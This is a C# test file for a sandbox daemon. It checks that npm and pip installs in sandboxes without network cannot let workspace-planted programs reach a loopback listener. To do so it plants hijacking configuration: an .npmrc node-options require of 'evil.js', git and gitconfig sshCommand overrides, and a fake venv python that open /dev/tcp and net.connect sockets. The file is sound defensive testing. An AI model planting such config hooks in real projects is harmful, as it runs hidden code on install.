using System.IO.Compression;
using System.Net;
using System.Net.Http.Json;
using System.Net.Sockets;
using System.Text;
using System.Text.Json.Nodes;
using Cerver.Relay.Tests.Infrastructure;

namespace Cerver.Relay.Tests.Daemon;

/// <summary>
/// An install in a sandbox without network may download, but nothing the workspace holds may
/// run with network meanwhile. Planted programs record that they ran in the workspace and try
/// to reach a listener on the host's loopback, which only a process in the host's network
/// namespace can: under bubblewrap a sandbox without network has a loopback of its own. The
/// same plants in a sandbox with network reach it, which shows the probe can tell. Runs under
/// bubblewrap, against the npm registry this machine reaches (PyPI it does not).
/// </summary>
public sealed class InstallNetworkTests(SharedDaemon shared) : IClassFixture<SharedDaemon>
{
    private readonly RelayDaemon _daemon = shared.Daemon;

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task A_planted_venv_python_runs_only_with_the_sandboxes_own_network(bool network)
    {
        using var listener = new ProbeListener();
        var id = await _daemon.CreateSandboxAsync(new { runtime = "python", network });
        await WriteAsync(id, ".venv/bin/python", Probe(id, "venv-python", listener.Port) + "exit 3\n", "0755");
        await WriteWheelAsync(id);

        var install = await InstallAsync(id, "pip", "./tinypkg-1.0-py3-none-any.whl");

        Assert.NotEqual(0, install["exit_code"]!.GetValue<int>());
        Assert.True(Ran(id, "venv-python"), "the install did not use the workspace's .venv, so the probe proves nothing: " + install.ToJsonString());
        Assert.Equal(network ? ["venv-python"] : [], listener.Reached());
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task A_planted_npmrc_node_options_runs_only_with_the_sandboxes_own_network(bool network)
    {
        using var listener = new ProbeListener();
        var id = await _daemon.CreateSandboxAsync(new { runtime = "node", network });
        var workspace = _daemon.WorkspaceOf(id);
        await WriteAsync(id, ".npmrc", $"node-options=--require {workspace}/evil.js\n");
        await WriteAsync(id, "evil.js", $$"""
            require('fs').appendFileSync('{{workspace}}/ran-evil-js', 'x');
            const socket = require('net').connect({{listener.Port}}, '127.0.0.1', () => socket.write('probe:evil-js\n', () => socket.destroy()));
            socket.on('error', () => {});
            """);
        await WriteAsync(id, "vendor/with-script/package.json", """{"name":"with-script","version":"1.0.0","scripts":{"postinstall":"node -e 0"}}""");

        var install = await InstallAsync(id, "npm", "is-number@7.0.0", "./vendor/with-script");

        Assert.True(install["exit_code"]!.GetValue<int>() == 0, install.ToJsonString());
        Assert.True(Ran(id, "evil-js"), "the package's script did not load the planted node-options: " + install.ToJsonString());
        Assert.Equal(network ? ["evil-js"] : [], listener.Reached());
        var run = await _daemon.RunAsync(id, new { code = "console.log(require('is-number')(7), require('with-script/package.json').version)", language = "node" });
        Assert.Equal("true 1.0.0\n", run["stdout"]!.GetValue<string>());
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task A_planted_npmrc_git_and_gitconfig_ssh_command_run_only_with_the_sandboxes_own_network(bool network)
    {
        using var listener = new ProbeListener();
        var id = await _daemon.CreateSandboxAsync(new { runtime = "node", network });
        var workspace = _daemon.WorkspaceOf(id);
        await WriteAsync(id, ".npmrc", $"git={workspace}/evil-git\n");
        await WriteAsync(id, ".gitconfig", $"[core]\n\tsshCommand = {workspace}/evil-ssh\n");
        await WriteAsync(id, "evil-git", Probe(id, "evil-git", listener.Port) + "exec git \"$@\"\n", "0755");
        await WriteAsync(id, "evil-ssh", Probe(id, "evil-ssh", listener.Port) + "exit 255\n", "0755");

        // Port 1 refuses at once: the real git and ssh of the fetch fail fast.
        var install = await InstallAsync(id, "npm", "git+ssh://git@127.0.0.1:1/nothing.git");

        Assert.NotEqual(0, install["exit_code"]!.GetValue<int>());
        if (network)
        {
            Assert.Equal(["evil-git", "evil-ssh"], listener.Reached());
        }
        else
        {
            Assert.Empty(listener.Reached());
            Assert.False(Ran(id, "evil-git") || Ran(id, "evil-ssh"), "workspace config reached the fetch: " + install.ToJsonString());
        }
    }

    [Fact]
    public async Task Local_packages_install_offline_with_npm_and_pip()
    {
        var node = await _daemon.CreateSandboxAsync(new { runtime = "node" });
        await WriteAsync(node, "vendor/hello-offline/package.json", """{"name":"hello-offline","version":"1.0.0","main":"index.js"}""");
        await WriteAsync(node, "vendor/hello-offline/index.js", "module.exports = 'hello offline';");
        var npm = await InstallAsync(node, "npm", "./vendor/hello-offline");
        Assert.True(npm["exit_code"]!.GetValue<int>() == 0, npm.ToJsonString());
        Assert.Equal("hello offline\n", (await _daemon.RunAsync(node, new { code = "console.log(require('hello-offline'))", language = "node" }))["stdout"]!.GetValue<string>());

        var python = await _daemon.CreateSandboxAsync(new { runtime = "python" });
        await WriteWheelAsync(python);
        var pip = await InstallAsync(python, "pip", "./tinypkg-1.0-py3-none-any.whl");
        Assert.True(pip["exit_code"]!.GetValue<int>() == 0, pip.ToJsonString());
        Assert.Equal("tiny 1.0\n", (await _daemon.RunAsync(python, new { code = "import tinypkg; print(tinypkg.NAME)", language = "python" }))["stdout"]!.GetValue<string>());
        AssertNoStagingLeft();
    }

    [Fact]
    public async Task A_registry_package_installs_through_the_fetch_into_a_sandbox_without_network()
    {
        var id = await _daemon.CreateSandboxAsync(new { runtime = "node" });

        var install = await InstallAsync(id, "npm", "is-number@7.0.0");

        Assert.True(install["exit_code"]!.GetValue<int>() == 0, install.ToJsonString());
        var run = await _daemon.RunAsync(id, new { code = "console.log(require('is-number')('5')); fetch('https://registry.npmjs.org/').then(() => console.log('online'), () => console.log('offline'))", language = "node" });
        Assert.Equal("true\noffline\n", run["stdout"]!.GetValue<string>());
        Assert.False(Directory.Exists(Path.Combine(_daemon.WorkspaceOf(id), ".npm")), "npm used a cache in the workspace, not the staging one");
        AssertNoStagingLeft();
    }

    [Fact]
    public async Task A_sandbox_with_network_installs_from_the_registry_in_one_step_as_before()
    {
        var id = await _daemon.CreateSandboxAsync(new { runtime = "node", network = true });

        var install = await InstallAsync(id, "npm", "is-number@7.0.0");

        Assert.True(install["exit_code"]!.GetValue<int>() == 0, install.ToJsonString());
        Assert.Equal("true\n", (await _daemon.RunAsync(id, new { code = "console.log(require('is-number')(1))", language = "node" }))["stdout"]!.GetValue<string>());
        Assert.True(Directory.Exists(Path.Combine(_daemon.WorkspaceOf(id), ".npm")), "a sandbox with network should use npm's own cache in its HOME, as before");
    }

    [Fact]
    public async Task A_failed_fetch_is_the_install_result_and_leaves_nothing_behind()
    {
        var id = await _daemon.CreateSandboxAsync(new { runtime = "node" });

        var install = await InstallAsync(id, "npm", "cerver-relay-no-such-package-0b9f2e");

        Assert.NotEqual(0, install["exit_code"]!.GetValue<int>());
        Assert.Contains("404", install["stderr"]!.GetValue<string>(), StringComparison.Ordinal);
        Assert.False(Directory.Exists(Path.Combine(_daemon.WorkspaceOf(id), "node_modules")));
        AssertNoStagingLeft();
    }

    /// <summary>A bash program that records it ran, then tells the listener its name if it can reach it.</summary>
    private string Probe(string id, string name, int port) => $"""
        #!/bin/bash
        echo x >> '{_daemon.WorkspaceOf(id)}/ran-{name}'
        (exec 3<>/dev/tcp/127.0.0.1/{port} && echo probe:{name} >&3) 2>/dev/null

        """;

    private bool Ran(string id, string name) => File.Exists(Path.Combine(_daemon.WorkspaceOf(id), "ran-" + name));

    private void AssertNoStagingLeft() =>
        Assert.Empty(Directory.EnumerateDirectories(_daemon.Settings.Paths.SandboxesDirectory, "*.install-*"));

    private async Task<JsonObject> InstallAsync(string id, string manager, params string[] packages) =>
        await RelayDaemon.ReadJsonAsync(await _daemon.Client.PostAsJsonAsync($"/sandbox/{id}/packages", new { manager, packages }), 200);

    private async Task WriteAsync(string id, string path, string content, string? mode = null)
    {
        using var response = await _daemon.Client.PutAsJsonAsync($"/sandbox/{id}/files", new { path, content, mode });
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
    }

    /// <summary>A pure-python wheel made here, so the offline install needs no index.</summary>
    private async Task WriteWheelAsync(string id)
    {
        var wheel = new MemoryStream();
        using (var zip = new ZipArchive(wheel, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, text) in new[]
            {
                ("tinypkg/__init__.py", "NAME = 'tiny 1.0'\n"),
                ("tinypkg-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tinypkg\nVersion: 1.0\n"),
                ("tinypkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: cerver-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
                ("tinypkg-1.0.dist-info/RECORD", "tinypkg/__init__.py,,\ntinypkg-1.0.dist-info/METADATA,,\ntinypkg-1.0.dist-info/WHEEL,,\ntinypkg-1.0.dist-info/RECORD,,\n"),
            })
            {
                await using var entry = zip.CreateEntry(name).Open();
                await entry.WriteAsync(Encoding.UTF8.GetBytes(text));
            }
        }

        using var response = await _daemon.Client.PutAsJsonAsync($"/sandbox/{id}/files", new { path = "tinypkg-1.0-py3-none-any.whl", content = Convert.ToBase64String(wheel.ToArray()), encoding = "base64" });
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
    }

    /// <summary>A loopback listener the probes report to; read once the install has returned, when every probe's connection is queued.</summary>
    private sealed class ProbeListener : IDisposable
    {
        private readonly TcpListener _listener = new(IPAddress.Loopback, 0);

        public ProbeListener() => _listener.Start();

        public int Port => ((IPEndPoint)_listener.LocalEndpoint).Port;

        public List<string> Reached()
        {
            var names = new List<string>();
            while (_listener.Pending())
            {
                using var client = _listener.AcceptTcpClient();
                client.ReceiveTimeout = 5000;
                using var reader = new StreamReader(client.GetStream());
                if (reader.ReadLine() is { } line && line.StartsWith("probe:", StringComparison.Ordinal))
                {
                    names.Add(line["probe:".Length..]);
                }
            }

            names.Sort(StringComparer.Ordinal);
            return names;
        }

        public void Dispose() => _listener.Dispose();
    }
}
